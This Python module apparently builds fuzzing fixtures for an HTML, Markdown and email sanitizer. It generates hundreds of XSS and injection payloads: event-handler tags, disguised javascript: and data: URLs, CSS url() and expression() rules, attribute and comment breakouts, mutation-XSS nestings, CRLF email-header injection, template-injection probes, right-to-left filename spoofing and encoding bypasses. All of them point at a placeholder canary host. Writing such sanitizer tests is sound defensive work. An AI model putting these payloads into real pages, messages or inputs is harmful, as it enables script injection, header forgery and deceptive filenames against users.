"""Hostile texts, put together from families: what each tries is said by the family's name.

Whatever of them runs calls `canary`, or opens a dialog; whatever of them loads asks `HOST`.
"""

from itertools import product

HOST = "canary.invalid"
URL = f"https://{HOST}/x"
RUN = "canary(1)"
ARMED = f"<img src=x onerror={RUN}>"
SCRIPT = f"<script>{RUN}</script>"


def elements_with_handlers() -> list[str]:
    tags = (
        "img svg body video audio iframe input details object marquee style script link x".split()
    )
    events = "onload onerror onfocus ontoggle onstart onpageshow onanimationstart onbegin".split()
    return [
        f"<{tag} src=x href=x {event}={RUN} autofocus tabindex=1 open>text"
        for tag, event in product(tags, events)
    ]


def _disguised(scheme: str) -> list[str]:
    """A scheme as it is, and as browsers once read it, or still do."""
    head, tail = scheme[:4], scheme[4:]
    return [
        scheme,
        scheme.upper(),
        scheme.title(),
        f" \u00a0{scheme}",
        f"\x01{scheme}",
        f"\u200b{scheme}",
        f"{head}\t{tail}",
        f"{head}\r\n{tail}",
        f"{head}\x00{tail}",
        f"{head}&Tab;{tail}",
        f"{head}&#10;{tail}",
        f"&#{ord(scheme[0])};{scheme[1:]}",
        f"&#x{ord(scheme[0]):x}{scheme[1:]}",
        f"&#{ord(scheme[0]):07}{scheme[1:]}",
        f"%{ord(scheme[0]):x}{scheme[1:]}",
        f"{chr(ord(scheme[0]) + 0xFEE0)}{scheme[1:]}",
        scheme.replace(":", "&colon;"),
        scheme.replace(":", "\t:"),
        scheme.replace(":", "\uff1a"),
        f"https://hub.example.org\\@{scheme}",
        f"//{scheme}//",
        f"feed:{scheme}",
        f"view-source:{scheme}",
    ]


def addresses() -> list[str]:
    bodies = {
        "javascript:": RUN,
        "vbscript:": RUN,
        "data:text/html,": SCRIPT,
        "data:image/svg+xml,": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    }
    return [form + body for scheme, body in bodies.items() for form in _disguised(scheme)]


def links_to_addresses() -> list[str]:
    run = [address for address in addresses() if RUN in address and SCRIPT not in address]
    return [f'<a href="{address}">text</a>' for address in run if "svg" not in address]


def elements_that_load() -> list[str]:
    rels = "stylesheet preload prefetch preconnect dns-prefetch modulepreload icon manifest import"
    sources = "img iframe embed video audio source track frame input bgsound portal script image"
    return [
        *(f"<link rel={rel} as=image href={URL}>text" for rel in rels.split()),
        *(f"<{tag} src={URL}>text" for tag in sources.split()),
        f'<img srcset="{URL} 1x">text',
        f'<picture><source srcset="{URL}"><img></picture>text',
        f"<video poster={URL}></video>text",
        f"<input type=image src={URL}>text",
        f"<object data={URL}>text</object>",
        f"<applet code={URL}>text</applet>",
        f"<body background={URL}>text",
        f"<table background={URL}><tr><td background={URL}>text</table>",
        f'<iframe srcdoc="{ARMED}"></iframe>text',
        f"<svg><image href={URL} /></svg>text",
        f"<svg><image xlink:href={URL} /></svg>text",
        f"<svg><use href={URL}#a /></svg>text",
        f"<svg><filter><feImage href={URL} /></filter></svg>text",
        f"<svg><script href={URL} /></svg>text",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>text",
        f"<svg><set onbegin={RUN} attributeName=x></svg>text",
        f"<svg><a><animate attributeName=href values=javascript:{RUN} />text</a></svg>",
        f"<math href=javascript:{RUN}>text</math>",
        f'<meta http-equiv=refresh content="0;url={URL}">text',
        f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">text',
        f'<meta http-equiv="Set-Cookie" content="a={URL}">text',
        f"<base href={URL}/>text",
        f"<form action={URL}><button autofocus>text</button></form>",
        f"<form><button formaction=javascript:{RUN}>text</button></form>",
        f"<isindex action=javascript:{RUN} prompt=text>",
        f"<a href={URL} ping={URL}>text</a>",
        f"<a href={URL} target=_top autofocus>text</a>",
        f"<q cite=javascript:{RUN}>text</q>",
        f"<area href=javascript:{RUN}>text",
        f"<xml src={URL}></xml>text",
        f"<layer src={URL}></layer>text",
        f"<frameset onload={RUN}><frame src={URL}></frameset>text",
        f"<keygen autofocus onfocus={RUN}>text",
        f"<button popovertarget=x onclick={RUN}>text</button><x popover id=x onbeforetoggle={RUN}>",
    ]


def sheets() -> list[str]:
    rules = [
        f"background:url({URL})",
        f"background:u\\72l({URL})",
        f"background:url/**/({URL})",
        f"background:URL('{URL}')",
        f"background-image:image-set('{URL}' 1x)",
        f"background-image:-webkit-image-set(url({URL}) 1x)",
        f"background-image:cross-fade(url({URL}), url({URL}), 50%)",
        f"list-style-image:url({URL})",
        f"cursor:url({URL}), auto",
        f"content:url({URL})",
        f"border-image:url({URL}) 1",
        f"mask:url({URL})",
        f"filter:url({URL}#f)",
        f"clip-path:url({URL}#c)",
        f"shape-outside:url({URL})",
        f"--x:url({URL});background:var(--x)",
        f"-moz-binding:url({URL}#x)",
        f"behavior:url({URL})",
        f"width:expression({RUN})",
        f"width:ex/**/pression({RUN})",
        "display:none",
        "position:fixed;inset:0;background:#000;z-index:9999",
        "font-size:0;color:transparent",
    ]
    blocks = [
        f"@import '{URL}';",
        f"@import url({URL});",
        f"@font-face{{font-family:x;src:url({URL})}}*{{font-family:x}}",
        f"@namespace url({URL});",
        f"@charset 'utf-7';@import '{URL}'",
        f"}}*{{background:url({URL})}}",
        f"*/}}*{{background:url({URL})}}/*",
    ]
    return [
        *(f'<p style="{rule}">text</p>' for rule in rules),
        *(f"<style>*{{{rule}}}</style>text" for rule in rules),
        *(f"<style>{block}</style>text" for block in blocks),
        *(f"</style><style>{block}" for block in blocks),
        *(f"; {rule}" for rule in rules),
        *blocks,
    ]


def attribute_breakouts() -> list[str]:
    closers = [
        '"',
        "'",
        "`",
        '">',
        "'>",
        '"/>',
        "&quot;",
        "&#34;",
        "&#x27;>",
        '\\"',
        "\\u0022",
        "%22",
    ]
    followers = [
        f" onmouseover={RUN} x=",
        f" autofocus tabindex=0 onfocus={RUN} x=",
        f" style=background:url({URL}) x=",
        f"{ARMED}",
    ]
    return [closer + follower for closer, follower in product(closers, followers)]


def element_breakouts() -> list[str]:
    tags = (
        "title style textarea script noscript template select option table td tr a p div body html"
        " head svg math xmp plaintext iframe noembed noframes article summary"
    )
    return [f"</{tag}>{armed}" for tag, armed in product(tags.split(), (ARMED, SCRIPT))]


def comment_breakouts() -> list[str]:
    signs = [
        "<!--",
        "-->",
        "--!>",
        "<!-->",
        "<!--->",
        "<!-- -- >",
        "<![CDATA[",
        "]]>",
        "<![endif]-->",
        "<!--[if mso]>",
        "<!--[if gte mso 9]><xml>",
        "<!--[if !mso]><!-->",
        "<![if !IE]>",
        "<!",
        "<?",
        "<?xml version='1.0'?>",
        f"<?xml-stylesheet href='{URL}'?>",
        "<?php echo 1 ?>",
        f"<!DOCTYPE x [<!ENTITY e SYSTEM '{URL}'>]>&e;",
        "<!ELEMENT x ANY>",
        "</",
        "</ ",
        "<%",
        "<x ",
        "<",
        "&",
    ]
    return [sign + ARMED for sign in signs]


def mutating_nestings() -> list[str]:
    """Markup that is harmless to one parser, and not to the next one that reads what it wrote."""
    outer = [
        "<svg>",
        "<math>",
        "<math><mtext><table><mglyph>",
        "<math><mi><mglyph>",
        "<svg><desc>",
        "<svg><title>",
        "<svg><foreignObject>",
        "<svg></p>",
        '<math><annotation-xml encoding="text/html">',
        "<form><math><mtext></form><form><mglyph>",
        "<table><td>",
        "<table><caption>",
        "<select><option>",
        "<noscript>",
        "<template>",
        "<xmp>",
        "<noembed>",
        "<textarea>",
        "<a><table><a>",
        "<b><p><i>",
    ]
    inner = [
        f"<style><!--</style>{ARMED}-->",
        f'<style><a title="</style>{ARMED}">',
        f'<p title="</noscript></template></xmp></noembed></textarea>{ARMED}">',
        f"<![CDATA[</style>{ARMED}]]>",
        f'<!--<a id="-->{ARMED}">',
    ]
    return [start + end for start, end in product(outer, inner)]


def headers() -> list[str]:
    breaks = [
        "\r\n",
        "\n",
        "\r",
        "\r\n ",
        "\x0b",
        "\x0c",
        "\x1e",
        "\x85",
        "\u2028",
        "\u2029",
        "%0d%0a",
        "\\r\\n",
        "=0D=0A",
        "=?utf-8?q?=0D=0A?=",
        "=?utf-8?b?DQo=?=",
    ]
    names = [
        f"Bcc: x@{HOST}",
        "Content-Type: text/html",
        f"Subject: =?utf-8?q?{'=3Cb=3E'}?=",
        f"From: =?utf-8?b?eA==?= <x@{HOST}>",
        f"\r\n<html>{SCRIPT}",
    ]
    return [f"text{end}{name}" for end, name in product(breaks, names)]


def templates() -> list[str]:
    signs = [
        ("{{", "}}"),
        ("{{{", "}}}"),
        ("{%", "%}"),
        ("{#", "#}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("<#", ">"),
        ("[%", "%]"),
        ("[[", "]]"),
        ("[", "]"),
        ("{", "}"),
        ("%%", "%%"),
        ("%%=", "=%%"),
        ("*|", "|*"),
        ("##", "##"),
        ("@(", ")"),
        ("$(", ")"),
        ("`", "`"),
    ]
    words = [
        "7*7",
        " issue.subject | safe ",
        " ''.__class__.__mro__ ",
        "UNSUB",
        " unsubscribe ",
        f"constructor.constructor('{RUN}')()",
    ]
    return [start + word + end for (start, end), word in product(signs, words)]


def directions() -> list[str]:
    signs = [chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
    marks = ["\u200e", "\u200f", "\u061c"]
    return [
        *(f"text {sign}gpj.exe" for sign in (*signs, *marks)),
        *(f"{sign}text\u202c\u2069 more" for sign in signs),
        "\u202e" * 80 + "text",
        "\u2067" * 130 + "text",
        "\u05d0\u05d1 text \u0627\u0628",
    ]


def odd_characters() -> list[str]:
    codes = [
        *range(0x20),
        *range(0x7F, 0xA1),
        *(0xAD, 0x34F, 0x180E, 0x200B, 0x200C, 0x200D, 0x2028, 0x2029, 0x2060, 0x2063, 0x2800),
        *(0x3000, 0x3164, 0xD800, 0xDBFF, 0xDFFF, 0xE000, 0xFDD0, 0xFE0F, 0xFEFF, 0xFFF9, 0xFFFC),
        *(0xFFFE, 0xFFFF, 0x1FFFE, 0xE0001, 0xE0041, 0x10FFFF),
    ]
    stacked = "a" + "\u0336\u0489\u20dd" * 5
    return [*(f"te{chr(code)}xt{chr(code)}" for code in codes), stacked, "\u0338=>\u0338<\u0338"]


def references() -> list[str]:
    tag = f"img src=x onerror={RUN}"
    return [
        f"&lt;{tag}&gt;",
        f"&amp;lt;{tag}&amp;gt;",
        f"&#60;{tag}&#62;",
        f"&#x3c;{tag}&#x3e;",
        f"&#0000060{tag}&#0000062",
        f"&LT{tag}&GT",
        f"&lt;!--&gt;{ARMED}",
        "&#0; &#x0; &#13; &#128; &#159;",
        "&#xD800; &#x110000; &#99999999999;",
        f"&#{'9' * 400};",
        "&ampamp; &amp;amp;amp; &ampquot;",
        "&NewLine;&Tab;&nbsp;&zwnj;&rlm;&shy;",
        "&copy &notit; &not-it; &CounterClockwiseContourIntegral;",
        "&&&;;;&#;&#x;&# 60;",
    ]


def other_encodings() -> list[str]:
    return [
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"\u00c0\u00bcscript\u00c0\u00be{RUN}",
        f"%3Cscript%3E{RUN}%3C/script%3E",
        f"%253Cscript%253E{RUN}",
        f"\\x3cscript\\x3e{RUN}",
        f"\\u003cscript\\u003e{RUN}",
        f"\uff1cscript\uff1e{RUN}",
        f"\ufe64script\ufe65{RUN}",
        f"\x1b$B<script>{RUN}</script>\x1b(B",
        f"~{{<script>{RUN}</script>~}}",
        f"\u2039script\u203a{RUN}",
        f"\u017fcript <\u017fcript>{RUN}</\u017fcript>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<ScRiPt\x0c>{RUN}</sCrIpT\t\n>",
        f"<img/src='x'/onerror\x00={RUN}>",
        f"<img src=x onerror\x0b={RUN}>",
        f"<\x00img src=x onerror={RUN}>",
    ]


def overlong() -> list[str]:
    return [
        "W" * 400,
        "_" * 400,
        "é" * 400,
        "漢" * 300,
        "\u0e01" * 300,
        "-".join("text" * 60),
        f"https://hub.example.org/{'long' * 90}",
        "mailto:" + "x" * 300 + f"@{HOST}",
        "<" * 300,
        "<b>" * 120 + "text",
        "&lt;" * 110,
    ]


def words_of_a_draft() -> list[str]:
    """What means something in issue.md, or in the Markdown of a note."""
    return [
        "## Never",
        "## Later ##",
        "Never",
        "- text [0000]",
        "[0000] until 2027-01-15",
        "Number: 99",
        "Subject: text",
        "Preheader: text",
        f"[text](javascript:{RUN})",
        f"[text](data:text/html,{SCRIPT})",
        f"[text]( &#106;avascript:{RUN})",
        f"<javascript:{RUN}>",
        f"[text][x]\n\n[x]: javascript:{RUN}",
        f"![text](javascript:{RUN})",
        f"![text](http://{HOST}/x)",
        f"[{ARMED}](https://hub.example.org/)",
        f'[text](https://hub.example.org/ "\\" onmouseover={RUN}")',
        f"```{ARMED}\ntext",
        "~~~\n</code></pre>" + ARMED,
        "***text** _text*_",
        "\\<img src=x\\>",
        "# text",
        "> > > text",
        "    text\n\ttext",
        "|a|b|\n|-|-|\n|text|",
    ]


FAMILIES = (
    elements_with_handlers,
    addresses,
    links_to_addresses,
    elements_that_load,
    sheets,
    attribute_breakouts,
    element_breakouts,
    comment_breakouts,
    mutating_nestings,
    headers,
    templates,
    directions,
    odd_characters,
    references,
    other_encodings,
    overlong,
    words_of_a_draft,
)
PAYLOADS = tuple(dict.fromkeys(payload for family in FAMILIES for payload in family()))
